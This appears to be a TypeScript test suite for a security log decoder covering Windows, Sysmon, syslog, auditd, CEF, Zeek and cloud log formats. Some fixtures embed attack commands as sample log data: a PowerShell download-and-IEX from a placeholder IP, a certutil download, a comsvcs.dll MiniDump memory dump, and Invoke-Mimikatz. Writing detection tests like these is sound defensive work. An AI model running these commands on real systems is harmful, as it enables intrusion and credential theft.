import { test } from "node:test";
import assert from "node:assert/strict";
import { Readable } from "node:stream";
import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { absorbHeader, decodeRecord, newDecoderState } from "./decode.ts";
import { readRecords } from "./read.ts";
import { nearestYear } from "./text.ts";

const decode = (line: string, state = newDecoderState("f")) => decodeRecord(state, line, 1)[0]!;

async function records(text: string | Buffer) {
  const out = [];
  for await (const batch of readRecords(Readable.from([Buffer.from(text)]))) out.push(...batch);
  return out;
}

test("Windows Event tree: EventData fields, System fields under Sigma names, Sysmon category from the event id", () => {
  const doc = {
    Event: {
      System: {
        Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon" } }, EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational",
        Computer: "ws1", TimeCreated: { "#attributes": { SystemTime: "2026-01-01T00:00:00Z" } }, Security: { "#attributes": { UserID: "S-1-5-18" } },
      },
      EventData: { Image: "C:\\x.exe", "Threat Name": "Eicar" },
    },
  };
  const ev = decode(JSON.stringify(doc));
  assert.equal(ev.get("Image"), "C:\\x.exe");
  assert.equal(ev.get("EventID"), 1);
  assert.equal(ev.get("Provider_Name"), "Microsoft-Windows-Sysmon");
  assert.equal(ev.get("Security_UserID"), "S-1-5-18");
  assert.equal(ev.get("ThreatName"), "Eicar");
  assert.deepEqual(ev.logsource, { product: "windows", categories: ["process_creation"], services: ["sysmon"] });
  assert.equal(ev.time, Date.parse("2026-01-01T00:00:00Z"));
});

test("Windows: named Data elements, #text values, UserData, and Security 4688 under Sysmon names", () => {
  const doc = {
    Event: {
      System: { EventID: { "#text": 4688, "#attributes": { Qualifiers: 0 } }, Channel: "Security" },
      EventData: { Data: [{ "#attributes": { Name: "NewProcessName" }, "#text": "C:\\w.exe" }, { "#attributes": { Name: "ParentProcessName" }, "#text": "C:\\p.exe" }] },
    },
  };
  const ev = decode(JSON.stringify(doc));
  assert.equal(ev.get("Image"), "C:\\w.exe");
  assert.equal(ev.get("ParentImage"), "C:\\p.exe");
  assert.deepEqual(ev.logsource?.categories, ["process_creation"]);
  assert.deepEqual(ev.logsource?.services, ["security"]);
  const wmi = decode(JSON.stringify({ Event: { System: { EventID: 5858, Channel: "Microsoft-Windows-WMI-Activity/Operational" }, UserData: { Op: { Operation: "x" } } } }));
  assert.equal(wmi.get("Operation"), "x");
  assert.deepEqual(wmi.logsource?.services, ["wmi"]);
});

test("Windows: EventData as named values and as a list of Data elements give the same record, System names winning", () => {
  const name = fc.constantFrom("Image", "CommandLine", "User", "ProcessId", "EventID", "Channel", "Level", "Hashes", "__proto__", "x");
  const value = fc.oneof(fc.string({ maxLength: 8 }), fc.integer(), fc.constant(null), fc.boolean());
  fc.assert(
    fc.property(fc.dictionary(name, value, { maxKeys: 8 }), (data) => {
      const system = { EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Level: 4 };
      const named = decode(JSON.stringify({ Event: { System: system, EventData: data } }));
      const list = Object.entries(data).map(([k, v]) => ({ "#attributes": { Name: k }, "#text": v }));
      const elements = decode(JSON.stringify({ Event: { System: system, EventData: { Data: list } } }));
      for (const k of Object.keys(data)) assert.deepEqual(named.get(k), elements.get(k), k);
      assert.equal(named.get("EventID"), 1);
      assert.equal(named.get("Channel"), "Microsoft-Windows-Sysmon/Operational");
      assert.equal(named.get("Level"), 4);
      assert.deepEqual(named.logsource, elements.logsource);
    }),
    { numRuns: 300 },
  );
});

test("Windows: Data elements as xmltodict (@Name) and plain {Name, #text} write them; System attributes as Element_Attribute", () => {
  const system = {
    EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational",
    Provider: { "@Name": "Microsoft-Windows-Sysmon", "@Guid": "{5770385f}" },
    Execution: { "#attributes": { ProcessID: 3000, ThreadID: 4000 } },
    TimeCreated: { "#attributes": { SystemTime: "2024-05-01T10:00:00Z" } },
    Correlation: { "#attributes": { ActivityID: "{a1}" } },
    Security: { "@UserID": "S-1-5-18" },
  };
  for (const data of [
    [{ "@Name": "Image", "#text": "C:\\r.exe" }, { "@Name": "CommandLine", "#text": "r.exe x" }],
    [{ Name: "Image", "#text": "C:\\r.exe" }, { Name: "CommandLine", "#text": "r.exe x" }],
    [{ Name: "Image", Value: "C:\\r.exe" }, { Name: "CommandLine", Value: "r.exe x" }],
  ]) {
    const ev = decode(JSON.stringify({ Event: { System: system, EventData: { Data: data } } }));
    assert.equal(ev.get("Image"), "C:\\r.exe", JSON.stringify(data));
    assert.equal(ev.get("CommandLine"), "r.exe x");
    assert.equal(ev.get("Provider_Name"), "Microsoft-Windows-Sysmon");
    assert.equal(ev.get("Provider_Guid"), "{5770385f}");
    assert.equal(ev.get("Execution_ProcessID"), 3000);
    assert.equal(ev.get("Execution_ThreadID"), 4000);
    assert.equal(ev.get("Security_UserID"), "S-1-5-18");
    assert.equal(ev.get("TimeCreated_SystemTime"), "2024-05-01T10:00:00Z");
    assert.equal(ev.get("Correlation_ActivityID"), "{a1}");
    assert.equal(ev.time, Date.parse("2024-05-01T10:00:00Z"));
  }
});

test("winlogbeat and flat Windows records", () => {
  const beat = decode(JSON.stringify({ "@timestamp": "2026-01-01T00:00:00Z", winlog: { channel: "Security", event_id: 4624, event_data: { LogonType: "3" } } }));
  assert.equal(beat.get("LogonType"), "3");
  assert.equal(beat.get("EventID"), 4624);
  const flat = decode(JSON.stringify({ EventID: 13, Channel: "Microsoft-Windows-Sysmon/Operational", TargetObject: "HKLM\\x" }));
  assert.deepEqual(flat.logsource?.categories, ["registry_event", "registry_set"]);
});

test("syslog RFC 5424 with structured data", () => {
  const ev = decode('<34>1 2026-10-11T22:14:15.003Z host1 sshd 4242 ID47 [exampleSDID@32473 iut="3" eventSource="App"] Failed password for root');
  assert.equal(ev.get("host"), "host1");
  assert.equal(ev.get("program"), "sshd");
  assert.equal(ev.get("severity"), "critical");
  assert.equal(ev.get("exampleSDID@32473.iut"), "3");
  assert.equal(ev.get("message"), "Failed password for root");
  assert.deepEqual(ev.logsource, { product: "linux", categories: [], services: ["syslog", "sshd", "auth"] });
  assert.equal(ev.time, Date.parse("2026-10-11T22:14:15.003Z"));
});

test("syslog RFC 3164, with and without priority", () => {
  const ev = decode("<13>Oct 11 22:14:15 mymachine sudo[123]: alice : TTY=pts/0 ; COMMAND=/bin/sh");
  assert.equal(ev.get("program"), "sudo");
  assert.equal(ev.get("pid"), "123");
  assert.match(String(ev.get("message")), /COMMAND=\/bin\/sh/);
  assert.deepEqual(ev.logsource?.services, ["syslog", "sudo", "auth"]);
  assert.equal(decode("Oct  1 02:03:04 h CRON[9]: (root) CMD (run)").get("program"), "CRON");
});

test("auditd: key=value pairs, quoted values, hex-encoded arguments, nested msg", () => {
  const ev = decode('type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="bash" a1="-c" a2=6563686F20686920746865726521');
  assert.equal(ev.get("type"), "EXECVE");
  assert.equal(ev.get("a0"), "bash");
  assert.equal(ev.get("a2"), "echo hi there!");
  assert.equal(ev.time, 1700000000123);
  assert.deepEqual(ev.logsource?.services, ["auditd"]);
  const user = decode("type=USER_LOGIN msg=audit(1700000000.5:7): pid=1 uid=0 msg='op=login acct=\"bob\" exe=\"/usr/sbin/sshd\" res=failed'");
  assert.equal(user.get("acct"), "bob");
  assert.equal(user.get("res"), "failed");
});

test("CEF: header fields, extension pairs with escapes and spaces", () => {
  const ev = decode("Sep 19 08:26:10 host CEF:0|Security|threatmanager|1.0|100|worm successfully stopped|10|src=10.0.0.1 dst=2.1.2.2 msg=Detected a \\= sign and spaces spt=1232");
  assert.equal(ev.get("deviceVendor"), "Security");
  assert.equal(ev.get("name"), "worm successfully stopped");
  assert.equal(ev.get("severity"), "10");
  assert.equal(ev.get("src"), "10.0.0.1");
  assert.equal(ev.get("msg"), "Detected a = sign and spaces");
  assert.equal(ev.get("spt"), "1232");
});

test("Zeek TSV: header directives name the fields; unset and empty values; the path is the service", () => {
  const state = newDecoderState("dns.log");
  for (const h of ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\tdns", "#fields\tts\tuid\tid.orig_h\tquery\tanswers", "#types\ttime\tstring\taddr\tstring\tvector[string]"]) {
    assert.equal(absorbHeader(state, h), true, h);
  }
  const ev = decodeRecord(state, "1700000000.5\tC1\t10.0.0.1\t-\ta.example,b.example", 9)[0]!;
  assert.equal(ev.get("id.orig_h"), "10.0.0.1");
  assert.equal(ev.get("query"), undefined);
  assert.deepEqual(ev.get("answers"), ["a.example", "b.example"]);
  assert.deepEqual(ev.logsource, { product: "zeek", categories: ["dns"], services: ["dns"] });
  assert.equal(ev.time, 1700000000500);
});

test("Zeek JSON: the service is _path, or the file name", () => {
  assert.deepEqual(decode(JSON.stringify({ _path: "http", uri: "/x" })).logsource?.services, ["http"]);
  const byName = decodeRecord(newDecoderState("/logs/conn.log"), JSON.stringify({ ts: 1, uid: "C1", "id.orig_h": "1.1.1.1" }), 1)[0]!;
  assert.deepEqual(byName.logsource?.services, ["conn"]);
  const row = JSON.stringify({ ts: 1, uid: "C1", "id.orig_h": "1.1.1.1" });
  for (const [file, service] of [["zeek-http.log", "http"], ["dns_20261120.json.gz", "dns"], ["/x/http.00:00:00-01:00:00.log.gz", "http"]] as const) {
    assert.deepEqual(decodeRecord(newDecoderState(file), row, 1)[0]!.logsource?.services, [service], file);
  }
  // A file name that names no Zeek log: the source the caller gave, else Zeek with no service.
  const named = { product: "zeek", categories: [], services: ["http"] };
  assert.deepEqual(decodeRecord(newDecoderState("-", "auto", named), row, 1)[0]!.logsource, named);
  assert.deepEqual(decodeRecord(newDecoderState("plain.log"), row, 1)[0]!.logsource, { product: "zeek", categories: [], services: [] });
});

test("unknown text lines become a message with no known log source", () => {
  const ev = decode("just some text");
  assert.equal(ev.get("message"), "just some text");
  assert.equal(ev.logsource, null);
});

test("reader: JSON lines, pretty-printed and concatenated documents, line numbers of their first line", async () => {
  const text = '{"a":1}\n\n{\n  "b": "x}{",\n  "c": [1, 2]\n}\n{\n  "d": 4\n}\n{"e":5}\n';
  const recs = await records(text);
  assert.deepEqual(recs.map((r) => r.line), [1, 3, 7, 10]);
  assert.deepEqual(JSON.parse(recs[1]!.text), { b: "x}{", c: [1, 2] });
});

test("reader: gzip input is inflated; CRLF endings and a last line without newline", async () => {
  const recs = await records(gzipSync(Buffer.from("one\r\ntwo\r\nthree")));
  assert.deepEqual(recs.map((r) => [r.text, r.line]), [["one", 1], ["two", 2], ["three", 3]]);
});

test("Windows: evtx_dump's separate attributes, 4688's integrity SID under both names, dotted paths through lists", () => {
  const sep = decode(JSON.stringify({ Event: { System: { Provider: "", Provider_attributes: { Name: "Microsoft-Windows-Sysmon" }, EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", TimeCreated: "", TimeCreated_attributes: { SystemTime: "2024-05-01T10:00:00Z" }, Execution: "", Execution_attributes: { ProcessID: 3000 } }, EventData: { Image: "C:\\w.exe" } } }));
  assert.equal(sep.get("Provider_Name"), "Microsoft-Windows-Sysmon");
  assert.equal(sep.get("Execution_ProcessID"), 3000);
  assert.equal(sep.time, Date.parse("2024-05-01T10:00:00Z"));
  assert.deepEqual(sep.logsource?.categories, ["process_creation"]);
  const audit = decode(JSON.stringify({ Event: { System: { EventID: 4688, Channel: "Security" }, EventData: { NewProcessName: "C:\\w.exe", MandatoryLabel: "S-1-16-12288" } } }));
  assert.deepEqual(audit.values("IntegrityLevel"), ["High", "S-1-16-12288"]);
  const list = decode(JSON.stringify({ users: [{ name: "alice" }, { name: "mallory" }], resources: [{ ARN: "a" }, { tags: [{ k: "x" }] }] }));
  assert.deepEqual(list.values("users.name"), ["alice", "mallory"]);
  assert.deepEqual(list.values("resources.tags.k"), ["x"]);
  assert.deepEqual(list.values("users.0.name"), ["alice"]);
});

test("Windows: events forwarded into ForwardedEvents keep the log source of the channel their provider writes to", () => {
  const ev = decode(JSON.stringify({ Event: { System: { Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon" } }, EventID: 1, Channel: "ForwardedEvents" }, EventData: { Image: "C:\\w.exe" } } }));
  assert.deepEqual(ev.logsource?.categories, ["process_creation"]);
  assert.equal(ev.get("Channel"), "ForwardedEvents");
  const sec = decode(JSON.stringify({ Event: { System: { Provider: { "#attributes": { Name: "Microsoft-Windows-Security-Auditing" } }, EventID: 4688, Channel: "ForwardedEvents" }, EventData: { NewProcessName: "C:\\w.exe" } } }));
  assert.deepEqual(sec.logsource?.services, ["security"]);
  assert.equal(sec.get("Image"), "C:\\w.exe");
});

test("RFC 3164 stamps without a year keep their file's sequence across New Year", () => {
  const state = newDecoderState("auth.log");
  const a = decodeRecord(state, "Dec 31 23:59:50 h sshd[1]: Failed password for bob", 1)[0]!;
  const b = decodeRecord(state, "Jan  1 00:00:10 h sshd[1]: Failed password for bob", 2)[0]!;
  assert.equal(b.time! - a.time!, 20_000);
  const c = decodeRecord(state, "Jan  1 00:00:05 h sshd[1]: out of order by five seconds", 3)[0]!;
  assert.equal(c.time! - b.time!, -5_000);
  // Whatever today's date: a stamp eleven months before the previous one is next year's, and the reverse.
  assert.equal(nearestYear(Date.UTC(2026, 0, 1, 0, 0, 10), Date.UTC(2026, 11, 31, 23, 59, 50)), Date.UTC(2027, 0, 1, 0, 0, 10));
  assert.equal(nearestYear(Date.UTC(2027, 11, 31, 23, 59, 50), Date.UTC(2027, 0, 1, 0, 0, 10)), Date.UTC(2026, 11, 31, 23, 59, 50));
  assert.equal(nearestYear(Date.UTC(2026, 5, 1), Date.UTC(2026, 4, 1)), Date.UTC(2026, 5, 1));
});

test("a Windows event as XML (wevtutil, ToXml()) reads as its JSON tree does: fields, channel, time, empty Data", () => {
  const xml = `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID><TimeCreated SystemTime='2026-03-01T10:00:00.000Z'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws07</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='Image'>C:\\Windows\\System32\\whoami.exe</Data><Data Name='CommandLine'>whoami &amp; echo</Data><Data Name='Empty'/></EventData></Event>`;
  for (const line of [xml, `<?xml version="1.0" encoding="utf-8"?>${xml}`]) {
    const ev = decode(line);
    assert.equal(ev.get("Image"), "C:\\Windows\\System32\\whoami.exe");
    assert.equal(ev.get("CommandLine"), "whoami & echo");
    assert.equal(ev.get("Empty"), "");
    assert.equal(ev.get("EventID"), 1);
    assert.equal(ev.get("Provider_Name"), "Microsoft-Windows-Sysmon");
    assert.equal(ev.get("Security_UserID"), "S-1-5-18");
    assert.deepEqual([ev.logsource?.product, ev.logsource?.categories], ["windows", ["process_creation"]]);
    assert.equal(ev.time, Date.parse("2026-03-01T10:00:00.000Z"));
  }
  assert.throws(() => decode("<Event><Foo/></Event>"), /not a Windows event in XML/);
});

test("Sysmon for Linux: the event's XML as a syslog message is a Linux event of its category", () => {
  const ev = decode(`Mar  1 10:00:05 lnx01 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel><Computer>lnx01</Computer></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="User">root</Data></EventData></Event>`);
  assert.equal(ev.get("Image"), "/usr/bin/curl");
  assert.deepEqual([ev.logsource?.product, ev.logsource?.categories], ["linux", ["process_creation"]]);
});

test("a CloudTrail log file's Records are its events", () => {
  const evs = decodeRecord(newDecoderState("ct.json"), JSON.stringify({ Records: [
    { eventSource: "signin.amazonaws.com", eventName: "ConsoleLogin", awsRegion: "eu-west-1" },
    { eventSource: "s3.amazonaws.com", eventName: "GetObject", awsRegion: "eu-west-1" },
  ] }), 1);
  assert.deepEqual(evs.map((e) => [e.get("eventName"), e.logsource?.product]), [["ConsoleLogin", "aws"], ["GetObject", "aws"]]);
});

test("CEF: a doubled backslash is one backslash, read once ('\\\\r' in a path or a user name is no carriage return)", () => {
  const ev = decode(String.raw`CEF:0|Vendor|AV|1.0|1|quarantine|5|duser=ALLIANCE\\r.silva filePath=C:\\Users\\run.exe msg=line one\nline two`);
  assert.equal(ev.get("duser"), "ALLIANCE\\r.silva");
  assert.equal(ev.get("filePath"), "C:\\Users\\run.exe");
  assert.equal(ev.get("msg"), "line one\nline two");
});

test("reader: a Windows event in XML written over several lines is one record, from its first line to its end tag", async () => {
  const head = `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID><Channel>Microsoft-Windows-PowerShell/Operational</Channel></System><EventData><Data Name='ScriptBlockText'>$wc = New-Object Net.WebClient`;
  const text = `${head}\n$s = $wc.DownloadString('http://198.51.100.7/a')\nIEX $s</Data></EventData></Event>\n{"a":1}\n<Event xmlns='x'><System>\n{"b":2}\n`;
  const recs = await records(text);
  assert.deepEqual(recs.map((r) => r.line), [1, 4, 5, 6]);
  const ev = decode(recs[0]!.text);
  assert.equal(ev.get("ScriptBlockText"), "$wc = New-Object Net.WebClient\n$s = $wc.DownloadString('http://198.51.100.7/a')\nIEX $s");
  // An event cut short by the next record is a broken record of its own, reported as undecodable.
  assert.equal(recs[2]!.text, "<Event xmlns='x'><System>");
  assert.throws(() => decode(recs[2]!.text), /not a Windows event in XML|UndecodableRecord|XML/);
});

test("an object-valued field is its JSON text for string tests (CloudTrail requestParameters), and crontab lines are cron's", () => {
  const ev = decode(JSON.stringify({ eventSource: "s3.amazonaws.com", eventName: "PutBucketVersioning", requestParameters: { VersioningConfiguration: { Status: "Suspended" }, bucketName: "b" } }));
  assert.deepEqual(ev.values("requestParameters"), ['{"VersioningConfiguration":{"Status":"Suspended"},"bucketName":"b"}']);
  assert.deepEqual(decode("Mar  2 10:00:01 web01 crontab[4242]: (www-data) REPLACE (www-data)").logsource?.services, ["syslog", "cron"]);
});

test("Zeek dns.log is also the generic dns category", () => {
  const state = newDecoderState("dns.log");
  for (const h of ["#separator \\x09", "#path\tdns", "#fields\tts\tquery"]) absorbHeader(state, h);
  const ev = decode("1700000000.0\txmr-eu1.nanopool.org", state);
  assert.deepEqual([ev.logsource?.product, ev.logsource?.categories, ev.logsource?.services], ["zeek", ["dns"], ["dns"]]);
});

test("Zeek dns.log answers and query type are also the generic dns category's answer and record_type, TSV and JSON", () => {
  const state = newDecoderState("dns.log");
  for (const h of ["#separator \\x09", "#set_separator\t,", "#path\tdns", "#fields\tts\tquery\tqtype_name\tanswers", "#types\ttime\tstring\tstring\tvector[string]"]) absorbHeader(state, h);
  const tsv = decode("1700000000.0\tpool.example.org\tTXT\t10.0.0.1,10.0.0.2", state);
  assert.deepEqual([tsv.fields.answer, tsv.fields.record_type], [["10.0.0.1", "10.0.0.2"], "TXT"]);
  const json = decode(JSON.stringify({ _path: "dns", ts: 1700000000, uid: "C1", "id.orig_h": "10.1.1.1", query: "a.example.org", qtype_name: "A", answers: ["10.9.9.9"] }));
  assert.deepEqual([json.fields.answer, json.fields.record_type], [["10.9.9.9"], "A"]);
  // A field the log names generically itself is not overwritten, and other Zeek logs get no generic dns names.
  const own = decode(JSON.stringify({ _path: "dns", uid: "C2", "id.orig_h": "10.1.1.1", answers: ["x"], answer: "kept" }));
  assert.equal(own.fields.answer, "kept");
  const http = decode(JSON.stringify({ _path: "http", uid: "C3", "id.orig_h": "10.1.1.1", answers: ["x"] }));
  assert.equal(http.fields.answer, undefined);
});

test("Get-WinEvent records as ConvertTo-Json writes them: the log, provider and id, and a Sysmon message's fields", () => {
  const ev = decode(JSON.stringify({
    Message: "Process Create:\r\nRuleName: -\r\nProcessId: 4242\r\nImage: C:\\Windows\\System32\\certutil.exe\r\nCommandLine: certutil -urlcache -f http://x/a.exe",
    Id: 1, RecordId: 77, ProviderName: "Microsoft-Windows-Sysmon", LogName: "Microsoft-Windows-Sysmon/Operational", MachineName: "ws07",
    TimeCreated: "/Date(1772359200000)/", Properties: [{ Value: "-" }],
  }));
  assert.equal(ev.get("Image"), "C:\\Windows\\System32\\certutil.exe");
  assert.equal(ev.get("CommandLine"), "certutil -urlcache -f http://x/a.exe");
  assert.equal(ev.get("EventID"), 1);
  assert.equal(ev.get("Computer"), "ws07");
  assert.deepEqual([ev.logsource?.product, ev.logsource?.categories], ["windows", ["process_creation"]]);
  assert.equal(ev.time, 1772359200000);
});

const sysmonXml = (id: number, data: string) =>
  `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>${id}</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><EventData>${data}</EventData></Event>`;

test("several <Event> elements in one record, back to back or under an <Events> root, are each an event", () => {
  const a = sysmonXml(1, "<Data Name='Image'>C:\\a.exe</Data>");
  const b = sysmonXml(3, "<Data Name='DestinationPort'>4444</Data>");
  for (const line of [`${a}${b}`, `<?xml version="1.0"?><Events>${a}${b}</Events>`]) {
    const evs = decodeRecord(newDecoderState("f"), line, 1);
    assert.deepEqual(evs.map((e) => [e.fields.EventID, e.logsource?.categories]), [[1, ["process_creation"]], [3, ["network_connection"]]]);
  }
});

test("Splunk's JSON export: a Windows event's _raw XML is the event; a flat result with EventCode reads as Windows fields", () => {
  const xml = decode(JSON.stringify({ preview: false, offset: 0, result: { _raw: sysmonXml(1, "<Data Name='Image'>C:\\Windows\\certutil.exe</Data>"), EventCode: "1" } }));
  assert.deepEqual([xml.fields.Image, xml.logsource?.categories], ["C:\\Windows\\certutil.exe", ["process_creation"]]);
  const flat = decode(JSON.stringify({ preview: false, result: { EventCode: "7045", Channel: "System", SourceName: "Service Control Manager", ImagePath: "cmd.exe /c x" } }));
  assert.deepEqual([flat.fields.EventID, flat.fields.Provider_Name, flat.logsource?.services], [7045, "Service Control Manager", ["system"]]);
});

test("Elastic Agent's ECS records: Sysmon's fields from the rendered message, else from process.*, file.*, registry.*", () => {
  const ev = decode(JSON.stringify({
    "@timestamp": "2026-11-20T09:06:02.123Z",
    message: "Process Create:\nRuleName: -\nImage: C:\\Windows\\System32\\rundll32.exe\nCommandLine: rundll32.exe comsvcs.dll, MiniDump 712 out.dmp full",
    winlog: { channel: "Microsoft-Windows-Sysmon/Operational", event_id: 1, provider_name: "Microsoft-Windows-Sysmon", event_data: { IntegrityLevel: "High" } },
    process: { executable: "C:\\ignored-when-the-message-has-it.exe", parent: { executable: "C:\\Windows\\explorer.exe" } },
    user: { domain: "CORP", name: "bob" },
  }));
  assert.deepEqual([ev.fields.Image, ev.fields.CommandLine, ev.fields.ParentImage, ev.fields.User, ev.fields.IntegrityLevel],
    ["C:\\Windows\\System32\\rundll32.exe", "rundll32.exe comsvcs.dll, MiniDump 712 out.dmp full", "C:\\Windows\\explorer.exe", "CORP\\bob", "High"]);
  const reg = decode(JSON.stringify({ winlog: { channel: "Microsoft-Windows-Sysmon/Operational", event_id: 13, provider_name: "Microsoft-Windows-Sysmon" }, registry: { path: "HKU\\S\\Run\\x", data: { strings: ["C:\\p.exe"] } } }));
  assert.deepEqual([reg.fields.TargetObject, reg.fields.Details], ["HKU\\S\\Run\\x", ["C:\\p.exe"]]);
});

test("ConvertTo-Json of Security, System and PowerShell events: Properties named by the event's template", () => {
  const ps = (Id: number, ProviderName: string, LogName: string, values: unknown[]) =>
    decode(JSON.stringify({ Id, ProviderName, LogName, Message: "rendered", Properties: values.map((Value) => ({ Value })), TimeCreated: "/Date(1772359200000)/" }));
  const sb = ps(4104, "Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", [1, 1, "Invoke-Mimikatz", "id", ""]);
  assert.deepEqual([sb.fields.ScriptBlockText, sb.logsource?.categories], ["Invoke-Mimikatz", ["ps_script"]]);
  const svc = ps(7045, "Service Control Manager", "System", ["x", "cmd.exe /c echo x > \\\\.\\pipe\\x", "user mode service", "demand start", "LocalSystem"]);
  assert.deepEqual([svc.fields.ServiceName, svc.fields.ImagePath, svc.fields.AccountName], ["x", "cmd.exe /c echo x > \\\\.\\pipe\\x", "LocalSystem"]);
  const logon = ps(4624, "Microsoft-Windows-Security-Auditing", "Security", ["S-1-5-18", "WS$", "CORP", "0x3e7", "S-1-5-21-1", "bob", "CORP", "0x1", 9, "seclogo"]);
  assert.deepEqual([logon.fields.TargetUserName, logon.fields.LogonType, logon.fields.LogonProcessName], ["bob", 9, "seclogo"]);
});
